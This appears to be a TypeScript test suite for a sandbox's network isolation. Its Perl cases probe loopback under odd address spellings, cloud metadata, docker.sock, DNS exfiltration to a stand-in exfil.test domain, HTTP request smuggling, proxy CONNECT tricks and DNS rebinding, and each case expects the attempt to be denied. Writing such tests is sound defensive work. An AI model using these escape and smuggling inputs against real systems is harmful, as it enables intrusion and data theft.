// Owns: programs without a network, and with one through the proxy, that try to reach what policy does not name.
// Refuses: anything beyond this machine: every address leads to a listener of the test, or nowhere.
import { ADDRESSES } from '../apart.ts';
import { type EscapeCase, script } from './case.ts';

/** Perl with `tcp(host, port)`, `udp(host, port, text)`, `unix(path)`: each says CONNECTED or REFUSED. */
const offline = (category: string, name: string, text: string, network = false): EscapeCase =>
  script(category, name, 'connection', `require './attacks/kit.pl';\n${text}`, {
    language: 'perl',
    tried: /^(REFUSED|SENT) /m,
    network,
  });

/** Perl with `proxy(bytes)`, which prints the first line of what the proxy answers. */
const online = (
  category: string,
  name: string,
  text: string,
  connection: RegExp,
  more: Partial<Options> = {},
): EscapeCase =>
  script(category, name, 'connection', `require './attacks/kit.pl';\n${text}`, {
    language: 'perl',
    tried: more.tried ?? /^ANSWER /m,
    connection,
    network: more.network ?? false,
    args: { allow_network: true },
  });

interface Options {
  readonly tried: RegExp;
  readonly network: boolean;
}

const CLOSED = '127.0.0.1:$ENV{CLOSED}';
const GRANTED = '127.0.0.1:$ENV{GRANTED}';
const get = (url: string, ...headers: string[]) =>
  `proxy("GET ${url} HTTP/1.1\\r\\nHost: ${GRANTED}\\r\\n${headers.map((one) => `${one}\\r\\n`).join('')}\\r\\n");`;
const connect = (authority: string, then = '') =>
  `proxy("CONNECT ${authority} HTTP/1.1\\r\\nHost: ${authority}\\r\\n\\r\\n"${then && `, ${then}`});`;

export const NETWORK: readonly EscapeCase[] = [
  // Without a network
  offline(
    'loopback',
    'a server of the host on 127.0.0.1',
    `tcp('127.0.0.1', $ENV{CLOSED}); tcp('127.0.0.1', $ENV{GRANTED}); tcp('localhost', $ENV{CLOSED});`,
  ),
  offline(
    'IPv6',
    'a server of the host on ::1',
    `tcp6('::1', $ENV{CLOSED}); tcp6('::ffff:127.0.0.1', $ENV{CLOSED});`,
  ),
  offline(
    '0.0.0.0',
    'a server of the host on 0.0.0.0 and ::',
    `tcp('0.0.0.0', $ENV{CLOSED}); tcp6('::', $ENV{CLOSED});`,
  ),
  offline(
    'decimal and octal addresses',
    'odd spellings of 127.0.0.1',
    `tcp($_, $ENV{CLOSED}) for ('2130706433', '0177.0.0.1', '0x7f.1', '127.1', '017700000001');`,
  ),
  offline(
    'metadata',
    'the metadata service',
    `tcp('${ADDRESSES.metadata}', 80); tcp6('::ffff:${ADDRESSES.metadata}', 80); tcp('fd00:ec2::254', 80);`,
  ),
  offline('loopback', 'other addresses of the host', `tcp($_, $ENV{CLOSED}) for split ' ', $ENV{ADDRESSES};`),
  offline(
    'UNIX sockets',
    'docker.sock outside of the workspace',
    `unix($ENV{UNIX}); unix('link-sock'); unix("/proc/1/root$ENV{UNIX}"); unix($_) for ('/var/run/docker.sock', '/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private');`,
  ),
  offline('abstract sockets', 'one of the host', `unix("\\0$ENV{ABSTRACT}"); unix("\\0/tmp/.X11-unix/X0");`),
  offline(
    'DNS exfiltration',
    'ask the resolver of the host',
    `udp('127.0.0.1', $ENV{DNS}, question('secret.exfil.test')); udp($_, 53, question('secret.exfil.test')) for split(' ', $ENV{ADDRESSES}), '127.0.0.53';`,
  ),
  offline(
    'DNS exfiltration',
    'look a name up',
    `defined gethostbyname('secret.exfil.test') ? print "CONNECTED\\n" : print "REFUSED name\\n"; system('getent hosts secret.exfil.test'); system('getent ahosts secret2.exfil.test');`,
  ),
  offline(
    'proxies',
    'the proxy of another call',
    `tcp('127.0.0.1', 3128); unix('/run/haft-proxy'); unix($_) for glob('/dev/shm/*/proxy/*'), glob('/run/*');`,
  ),
  offline(
    'IPv6',
    'broadcast and multicast',
    `udp('255.255.255.255', $ENV{DNS}, question('cast.exfil.test')); udp('224.0.0.251', 5353, question('cast.exfil.test'));`,
  ),

  // Through the proxy
  online('proxy CONNECT to an IP', 'a closed port', connect(CLOSED), /^127\.0\.0\.1:\d+ denied$/),
  online(
    'proxy CONNECT to an IP',
    'by decimal and octal numbers',
    connect('2130706433:$ENV{CLOSED}') +
      connect('0177.0.0.1:$ENV{CLOSED}') +
      connect('0x7f000001:$ENV{CLOSED}'),
    /^127\.0\.0\.1:\d+ denied$/,
  ),
  online(
    'proxy CONNECT to an IP',
    'by IPv6',
    connect('[::1]:$ENV{CLOSED}') + connect('[::ffff:127.0.0.1]:$ENV{CLOSED}'),
    /^\[::(1|ffff:7f00:1)\]:\d+ denied$/,
  ),
  online(
    'proxy CONNECT to an IP',
    '0.0.0.0',
    connect('0.0.0.0:$ENV{CLOSED}') + connect('[::]:$ENV{CLOSED}'),
    /^0\.0\.0\.0:\d+ denied$/,
  ),
  online(
    'proxy CONNECT to an IP',
    'the metadata service',
    connect(`${ADDRESSES.metadata}:80`) + connect(`${ADDRESSES.metadata}:443`),
    /^169\.254\.169\.254:80 denied$/,
  ),
  online(
    'proxy CONNECT to an IP',
    'a granted host, and then no TLS',
    connect(GRANTED, '"GET /smuggled HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"'),
    /^127\.0\.0\.1:\d+ mismatch$/,
  ),
  online(
    'proxy CONNECT to an IP',
    'a granted host, and then TLS for another',
    connect(GRANTED, "client_hello('evil.exfil.test')"),
    /^127\.0\.0\.1:\d+ mismatch$/,
  ),
  online(
    'proxy CONNECT to an IP',
    'with a body, a path, or a user',
    `proxy("CONNECT ${GRANTED} HTTP/1.1\\r\\nContent-Length: 3\\r\\n\\r\\nGET");` +
      connect(`${GRANTED}/../${CLOSED}`) +
      connect(`${GRANTED}@${CLOSED}`),
    / malformed$/,
  ),
  online('proxy', 'a request to a closed port', get(`http://${CLOSED}/`), /^127\.0\.0\.1:\d+ denied$/),
  online(
    'proxy',
    'a request to localhost by name',
    get('http://localhost:$ENV{GRANTED}/') + get('http://localhost:$ENV{CLOSED}/'),
    /^localhost:\d+ denied$/,
  ),
  online(
    'proxy',
    'names are not looked up before they are granted',
    get('http://secret.exfil.test/') + connect('secret.exfil.test:443'),
    /^secret\.exfil\.test:(80|443) denied$/,
  ),
  online(
    'proxy',
    'no whole URL, TRACE, and CRLF in the URL',
    `proxy("GET / HTTP/1.1\\r\\nHost: ${CLOSED}\\r\\n\\r\\n"); proxy("TRACE http://${GRANTED}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"); proxy("GET http://${GRANTED}/\\rHost: x HTTP/1.1\\r\\n\\r\\n");`,
    / malformed$/,
  ),
  online(
    'userinfo in URLs',
    'the granted host as a user',
    get(`http://${GRANTED}@${CLOSED}/`) + get(`http://user:secret@${GRANTED}/`),
    / malformed$/,
  ),
  online(
    'userinfo in URLs',
    'backslashes and odd slashes',
    get(`http://${CLOSED}\\\\\\\\@${GRANTED}/`) + get(`http:\\\\\\\\${CLOSED}/`),
    / (malformed|denied)$/,
  ),
  online(
    'HTTP smuggling',
    'the Host header of another',
    `proxy("GET http://${CLOSED}/ HTTP/1.1\\r\\nHost: ${GRANTED}\\r\\n\\r\\n");`,
    /^127\.0\.0\.1:\d+ denied$/,
  ),
  online(
    'HTTP smuggling',
    'two lengths, and a length beside chunks',
    `
proxy("POST http://${GRANTED}/a HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 5\\r\\nContent-Length: 6\\r\\n\\r\\nabcdef");
proxy("POST http://${GRANTED}/b HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n");
proxy("POST http://${GRANTED}/c HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding: chunked, identity\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n");
proxy("POST http://${GRANTED}/d HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n");`,
    / malformed$/,
  ),
  online(
    'HTTP smuggling',
    'a second request on the connection',
    `proxy("GET http://${GRANTED}/first HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET http://${CLOSED}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n");`,
    /^127\.0\.0\.1:\d+ done$/,
  ),
  online(
    'HTTP smuggling',
    'an upgrade to a tunnel',
    `proxy("GET http://${GRANTED}/up HTTP/1.1\\r\\nHost: x\\r\\nConnection: Upgrade, Content-Length\\r\\nUpgrade: websocket\\r\\n\\r\\n", "GET /smuggled HTTP/1.1\\r\\n\\r\\n");`,
    /^127\.0\.0\.1:\d+ done$/,
  ),
  online(
    'redirects to metadata addresses',
    'followed by the program',
    `
my $answer = ${get(`http://${GRANTED}/to-metadata`)}
my ($to) = $answer =~ m{location: (\\S+)}i; print "TO $to\\n";
proxy("GET $to HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n");`,
    /^169\.254\.169\.254:80 denied$/,
  ),
  online(
    'proxy',
    'the socket of the proxy itself',
    `
use Socket; socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack_sockaddr_un('/run/haft-proxy')) or print "NO SOCKET\\n";
syswrite($s, "GET http://${CLOSED}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"); sysread($s, my $got, 999); print "ANSWER ", (split /\\r/, $got)[0], "\\n";`,
    /^127\.0\.0\.1:\d+ denied$/,
  ),
  online(
    'loopback',
    'around the proxy',
    `tcp('127.0.0.1', $ENV{CLOSED}); tcp($_, $ENV{CLOSED}) for split ' ', $ENV{ADDRESSES}; udp('127.0.0.1', $ENV{DNS}, question('around.exfil.test')); unix($ENV{UNIX}); unix("\\0$ENV{ABSTRACT}");${get(`http://${CLOSED}/`)}`,
    / denied$/,
  ),
  online(
    'DNS rebinding',
    'names that lead inward',
    get('http://inward.test:$ENV{REBIND}/inward') +
      get('http://metadata.test:$ENV{REBIND}/') +
      get('http://lan.test:$ENV{REBIND}/'),
    /^(inward|metadata|lan)\.test:\d+ denied$/,
    { network: true },
  ),
];
